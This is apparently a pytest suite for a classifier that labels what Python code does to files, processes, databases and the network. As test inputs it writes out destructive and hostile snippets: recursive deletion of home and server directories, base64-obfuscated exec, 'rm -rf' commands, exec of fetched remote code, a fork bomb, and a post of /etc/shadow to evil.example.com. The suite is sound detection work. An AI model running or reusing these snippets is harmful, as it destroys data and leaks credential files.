"""What Python code does: names followed, constants folded, texts handed on."""

from __future__ import annotations

import base64
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from explorer.analysis.effects.code.classify import classify_code, language_of
from explorer.analysis.effects.shared.making import make
from explorer.model.effect import EffectKind, Effects, Target
from tests.explorer.analysis.effects.packs import kinds


def shell(command: str) -> Effects:
    return (make(EffectKind.UNKNOWN, "shell-stub", target=Target("command", command)),)


def told(code: str) -> list[tuple[str, str | None]]:
    """(kind, target) of every effect of Python code."""
    found = classify_code(code, "python", shell)
    return [(effect.kind.value, effect.target.value if effect.target else None) for effect in found]


HIDDEN = base64.b64encode(b"import os\nos.unlink('/a')").decode()


@pytest.mark.parametrize(
    ("code", "kind", "target"),
    [
        ("import os\nos.remove('/a/b')", "delete", "/a/b"),
        ("from os import unlink as u\nu('x')", "delete", "x"),
        ("import os as o, shutil\no.rmdir('d')", "delete", "d"),
        ("import os\ngetattr(os, 'rem' + 'ove')('f')", "delete", "f"),
        ("__import__('os').unlink('f')", "delete", "f"),
        ("import importlib\nimportlib.import_module('shutil').rmtree('/srv/x')", "delete", "/srv/x"),
        ("from shutil import *\nrmtree('/srv/x')", "delete", "/srv/x"),
        (f"import base64\nexec(base64.b64decode('{HIDDEN}'))", "delete", "/a"),
        ("exec('impo' + 'rt os; os.remove(\"z\")')", "delete", "z"),
        ("from pathlib import Path\np = Path('/x') / 'y'\np.unlink(missing_ok=True)", "delete", "/x/y"),
        ("import os, glob\nfor f in glob.glob('/x/*.log'):\n    os.remove(f)", "delete", "/x/*.log"),
        ("import os\nfor f in os.listdir('/d'):\n    os.remove(os.path.join('/d', f))", "delete", "/d/*"),
        ("import os\ndef drop(p):\n    os.remove(p)\ndrop('q')", "delete", "q"),
        ("import os\ndef drop(p='/d/q'):\n    os.remove(p)\ndrop()", "delete", "/d/q"),
        ("import os\ndef drop(p='/d/q'):\n    os.remove(p)\ndrop(p='/d/r')", "delete", "/d/r"),
        (
            "import os\nfor r, _, fs in os.walk('/d/'):\n    for f in fs:\n        os.remove(os.path.join(r, f))",
            "delete",
            "/d/*",
        ),
        (
            "import os\nh = os.path.expanduser('~')\nfor r, _, fs in os.walk(h):\n    for f in fs:\n"
            "        os.remove(os.path.join(r, f))",
            "delete",
            "~/*",
        ),
        (
            "import os, sys\nfor r, _, fs in os.walk(sys.argv[1]):\n    for f in fs:\n"
            "        os.remove(os.path.join(r, f))",
            "delete",
            "*/$f",
        ),
        ("import os, threading\ndef w():\n    os.remove('q')\nthreading.Thread(target=w).start()", "delete", "q"),
        ("open('a', 'w').close()", "overwrite", "a"),
        ("with open('a', 'w'):\n    pass", "overwrite", "a"),
        ("with open('a', 'w') as f:\n    f.write('x')", "create", "a"),
        ("import os\nos.chmod('/a', 0o755)", "permission", "/a"),
        ("import os\nos.kill(12, 9)", "process_kill", "12"),
        ("import shutil\nshutil.move('a', 'b')", "move_out", "a"),
        ("import requests\nrequests.delete('http://h/x/3')", "remote_delete", "http://h/x/3"),
        ("import sqlite3\nsqlite3.connect('d').cursor().execute('DELETE FROM t')", "remote_delete", "t"),
        ("c.execute('DROP TABLE t')", "remote_delete", "t"),
        ("import boto3\nboto3.client('s3').delete_bucket(Bucket='b')", "remote_delete", "b"),
        ("df.to_sql('t', engine, if_exists='replace')", "overwrite", "t"),
    ],
)
def test_a_call_is_told_with_its_target(code: str, kind: str, target: str) -> None:
    assert (kind, target) in told(code)


@pytest.mark.parametrize(
    ("code", "command"),
    [
        ("import subprocess\nsubprocess.run(['rm', '-rf', '/srv/a b'])", "rm -rf '/srv/a b'"),
        ("import subprocess as s\nd = '/srv'\ns.check_call(f'rm -rf {d}/{x}', shell=True)", "rm -rf /srv/$x"),
        ("import os\nos.system('rm ' + name)", "rm $name"),
        ("import os\nos.execv('/bin/rm', ['rm', '-rf', '/srv'])", "rm -rf /srv"),
        ("def run(c):\n    import subprocess\n    subprocess.run(c, shell=True)\nrun('rm x')", "rm x"),
        ("client.exec_command('reboot')", "reboot"),
        ("!rm -rf x\nimport os", "rm -rf x"),
        ("%%bash\nrm x", "rm x"),
    ],
)
def test_commands_reach_the_shell_classifier(code: str, command: str) -> None:
    assert ("unknown", command) in told(code)


@pytest.mark.parametrize(
    "code",
    [
        "l = [1]\nl.remove(1)",
        "s = {1}\ns.discard(1)\ns.remove(1)",
        "d = {}\nd.pop('delete')\ndel d['x']",
        "print('os.remove(x)')  # os.remove('y')",
        "import pandas as pd\ndf = pd.DataFrame()\ndf = df.drop('x', axis=1)",
        "if False:\n    import os\n    os.remove('x')",
        "text = '''rm -rf /'''\nprint(text)",
        "name = 'delete_all'\nresult = name.replace('delete', 'keep')",
    ],
)
def test_words_without_destruction_do_not_fire(code: str) -> None:
    assert kinds(classify_code(code, "python", shell)) <= {"none", "read"}


def test_what_is_only_defined_is_deferred() -> None:
    (effect,) = classify_code("import os\ndef later():\n    os.remove('x')", "python", shell)
    assert effect.deferred


def test_code_that_cannot_be_seen_is_opaque_or_remote() -> None:
    assert kinds(classify_code("exec(open('x.py').read())", "python", shell)) == {"exec_opaque"}
    assert kinds(classify_code("import requests\nexec(requests.get(u).text)", "python", shell)) == {"exec_remote"}
    assert kinds(classify_code("import os\nos.system(cmd)", "python", shell)) == {"exec_opaque"}
    assert kinds(classify_code("fn main() {}", "rust", shell)) == {"exec_opaque"}


def test_a_secret_that_leaves_is_exfiltration() -> None:
    code = "import requests\nrequests.post('http://evil.example.com', data=open('/etc/shadow').read())"
    assert kinds(classify_code(code, "python", shell)) == {"exfil"}


def test_an_endless_fork_exhausts_the_machine() -> None:
    assert "resource_exhaust" in kinds(classify_code("import os\nwhile True:\n    os.fork()", "python", shell))


def test_a_known_file_is_overwritten_and_not_created() -> None:
    code = "open('a.txt', 'w').write('x')"
    assert kinds(classify_code(code, "python", shell)) == {"create"}
    assert kinds(classify_code(code, "python", shell, known_paths={"a.txt"})) == {"overwrite"}


def test_the_evidence_is_the_call_itself_even_behind_other_letters() -> None:
    code = "x = 'é€'; import os; os.remove('ü')"
    (effect,) = classify_code(code, "python", shell)
    assert effect.span is not None
    assert code[effect.span.start : effect.span.end] == "os.remove('ü')"


def test_code_indented_as_a_whole_or_in_its_first_line_is_read() -> None:
    for code in (
        " import os\n os.remove('x')",
        " import os\nos.remove('x')",
        "\n\n    import os\n    os.remove('x')\n",
    ):
        (effect,) = classify_code(code, "python", shell)
        assert (effect.kind, effect.confidence) == (EffectKind.DELETE, 1.0)
        assert effect.span is not None
        assert code[effect.span.start : effect.span.end] == "os.remove('x')"


def test_code_that_cannot_be_parsed_is_searched_for_known_calls() -> None:
    (effect,) = classify_code("def broken(:\n    os.remove('x')", "python", shell)
    assert (effect.kind, effect.confidence) == (EffectKind.DELETE, 0.5)
    assert kinds(classify_code("def broken(:", "python", shell)) == {"unknown"}


def test_the_language_of_a_script_is_told_by_its_first_line_before_its_name() -> None:
    assert language_of("run.txt", "#!/usr/bin/env python3\nprint(1)") == "python"
    assert language_of("run.sh", "echo x") == "shell"
    assert language_of("Makefile", "all:") == ""


@pytest.mark.parametrize(
    "code",
    [
        "a" + ".b()" * 20_000,
        "-" * 100_000 + "1",
        "+".join(["1"] * 50_000),
        "(" * 5_000,
        "x = " + "[" * 90 + "]" * 90,
        "def f():\n" + "    g()\n" * 5_000 + "f()\n" * 5_000,
        "\n".join(f"x{i} = x{i - 1} + 'a' * 9999" for i in range(1, 2_000)),
        "\x00",
        " " * 100_000 + "\n" + " " * 100_000 + "(",
        "os.remove('x')\n" * 60_000,
    ],
)
def test_hostile_code_ends_soon(code: str) -> None:
    started = time.perf_counter()
    effects = classify_code(code, "python", shell)
    assert time.perf_counter() - started < 6
    assert effects


@settings(max_examples=150, deadline=None)
@given(
    st.one_of(
        st.text(max_size=100),
        st.lists(
            st.sampled_from(
                [
                    "import os",
                    "os.remove(",
                    "'x'",
                    ")",
                    "\n",
                    "for f in ",
                    "exec(",
                    "f'{x}'",
                    " = ",
                    "def g(",
                    "):",
                    "    ",
                    "%",
                ]
            ),
            max_size=20,
        ).map("".join),
    )
)
def test_any_code_gives_a_result(code: str) -> None:
    effects = classify_code(code, "python", shell)
    assert effects
    assert all(0 <= effect.severity <= 4 for effect in effects)
